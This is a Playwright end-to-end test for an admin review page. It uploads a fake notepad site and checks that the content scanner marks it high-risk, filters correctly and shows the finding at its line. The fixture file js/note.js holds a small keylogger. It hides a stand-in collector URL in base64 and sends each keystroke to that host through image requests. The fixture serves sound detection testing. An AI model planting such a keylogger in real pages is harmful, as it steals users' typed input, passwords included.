import { expect, test } from '@playwright/test';
import { ADMIN, apiToken, createAccount, signIn } from './helpers';
import { uploadSite } from './site-helpers';

/**
 * A keylogger uploaded by an owner: the reviewer sees a high-risk badge on it in the review list,
 * filters the list to high risk, and on the review detail opens the finding at its line.
 */
test('a hostile upload shows a high-risk badge in the review list and its finding with an excerpt in the review detail', async ({
  page,
  request,
}) => {
  test.setTimeout(90_000);
  const owner = await createAccount(request, 'cc');
  const token = await apiToken(request, owner.username, owner.password);
  const name = `记事本${Date.now().toString(36)}`;
  const site = await uploadSite(request, token, name, {
    'index.html':
      '<!doctype html><title>记事本</title><textarea></textarea><script src="js/note.js"></script>',
    'js/note.js': [
      '// 自动保存',
      'var u = atob("aHR0cHM6Ly9jb2xsZWN0LmtleXNpbmsuZXhhbXBsZS5uZXQvaw==");',
      'document.addEventListener("keydown", function (e) { new Image().src = u + "?k=" + e.key; });',
    ].join('\n'),
  });
  await uploadSite(request, token, `${name}干净`, {
    'index.html': '<!doctype html><title>你好</title><p>你好</p>',
  });

  await signIn(page, ADMIN.username, ADMIN.password);
  // Signed in once the login page has gone (the token is kept before it navigates).
  await expect(page).not.toHaveURL(/\/login/);
  await page.goto(`/admin/reviews?search=${encodeURIComponent(name)}`);
  await expect(page.getByRole('link', { name, exact: true })).toBeVisible();
  const badge = page
    .getByRole('row')
    .filter({ has: page.getByRole('link', { name, exact: true }) })
    .locator('.content-check-badge');
  await expect(badge).toHaveText('高风险1');

  // Filtered to high risk, only the keylogger stays.
  await page.getByRole('combobox', { name: '风险等级' }).click();
  await page.locator('.ant-select-item-option[title="高风险"]').click();
  await expect(page).toHaveURL(/risk=high/);
  await expect(page.getByRole('link', { name: `${name}干净` })).toHaveCount(0);
  await expect(page.getByRole('link', { name, exact: true })).toBeVisible();

  await page.getByRole('link', { name, exact: true }).click();
  await expect(page).toHaveURL(new RegExp(`/admin/reviews/${site.id}`));
  await expect(
    page.getByText(
      '脚本读取键盘输入并发送到外部域名 collect.keysink.example.net（图片地址）：疑似窃取用户输入',
    ),
  ).toBeVisible();
  // The excerpt is in the table; the location opens the file with that line marked.
  const line3 =
    'document.addEventListener("keydown", function (e) { new Image().src = u + "?k=" + e.key; });';
  await expect(page.locator('.check-findings').getByText(line3)).toBeVisible();
  await page.getByRole('button', { name: 'js/note.js:3' }).click();
  const file = page.getByLabel('js/note.js:3 文件内容');
  await expect(file).toContainText('// 自动保存');
  await expect(file.locator('.finding-source__line--current')).toHaveText(`3${line3}`);
  await expect(page.getByText('collect.keysink.example.net').first()).toBeVisible();
});
